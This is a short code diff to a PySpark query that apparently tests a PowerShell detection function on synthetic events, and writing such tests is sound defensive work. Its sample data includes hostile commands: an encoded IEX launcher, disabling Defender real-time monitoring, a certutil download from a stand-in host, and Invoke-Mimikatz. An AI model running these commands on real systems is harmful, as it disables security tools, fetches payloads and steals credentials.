@@ -556,9 +556,9 @@ def policy_commands(spark: SparkSession, sf_dir: str) -> DataFrame:
     return got.select(F.col("path").cast("long").alias("s_suppkey"), "section", "command")
 
 
-@query(f"""SELECT event_id, {sql_pick(('encoded', 'defender_tamper', 'lolbin_download', 'credential_access'), 'event_id % 5')} AS flag FROM events WHERE event_id % 5 < 4""")
+@query(f"""SELECT event_id, {sql_pick(('encoded_command', 'defender_tamper', 'lolbin_download', 'credential_access'), 'event_id % 5')} AS flag FROM events WHERE event_id % 5 < 4""")
 def powershell_flags(spark: SparkSession, sf_dir: str) -> DataFrame:
-    said = pick(("powershell -enc SQBFAFgA", "Set-MpPreference -DisableRealtimeMonitoring 1", "certutil -urlcache -f http://x", "Invoke-Mimikatz", "Get-ChildItem"), "event_id % 5")
+    said = pick(("powershell -enc SQBFAFgAIAAoAE4AZQB3AA", "Set-MpPreference -DisableRealtimeMonitoring 1", "certutil -urlcache -f http://x", "Invoke-Mimikatz", "Get-ChildItem"), "event_id % 5")
     e = table(spark, sf_dir, "events").select("event_id", said.alias("command"))
     return e.withColumn("flag", logs.powershell_flag(F.col("command"))).where("flag is not null").select("event_id", "flag")
 
